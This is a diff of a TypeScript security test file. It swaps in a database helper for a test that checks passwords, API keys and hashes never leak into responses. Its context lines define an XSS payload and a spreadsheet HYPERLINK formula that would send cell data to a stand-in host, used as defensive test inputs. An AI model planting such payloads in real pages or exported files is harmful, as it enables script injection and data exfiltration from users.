@@ -5,6 +5,7 @@ import { addUser, type Console, openConsole, password, signedIn } from '../../su
 import { startServer, type TestServer } from '../../support/startServer.ts';
 import { jpegPhoto, pdfDocument } from '../../files/judge/fixtures.ts';
 import { entriesOf } from './readZip.ts';
+import { databaseOf } from '../../support/serverDatabase.ts';
 
 const script = `"><script>alert(1)</script><img src=x onerror=alert(1)>`;
 const formula = `=HYPERLINK("http://x.example?"&A1,"see")`;
@@ -243,7 +244,7 @@ describe('secrets', () => {
     told.push(await (await one.ask('GET', `/previews/${secret}x`, { headers: { cookie: `rafter=${secret}` } })).text());
     const links = (await server.store.settings.get('link_secret')) as string;
     expect(links.length).toBeGreaterThan(30);
-    const hashes = server.store.db.prepare('SELECT password_hash FROM user').pluck().all() as string[];
+    const hashes = databaseOf(server.store).prepare('SELECT password_hash FROM user').pluck().all() as string[];
     const here = [...told.map((text) => text.replaceAll(`${secret}x`, '')), ...lines];
     for (const word of [password, typed, guessed, apiKey, apiKey.slice(0, 20), links, '$argon2', ...hashes])
       expect(here.filter((text) => text.includes(word)).map((text) => text.slice(0, 300))).toEqual([]);
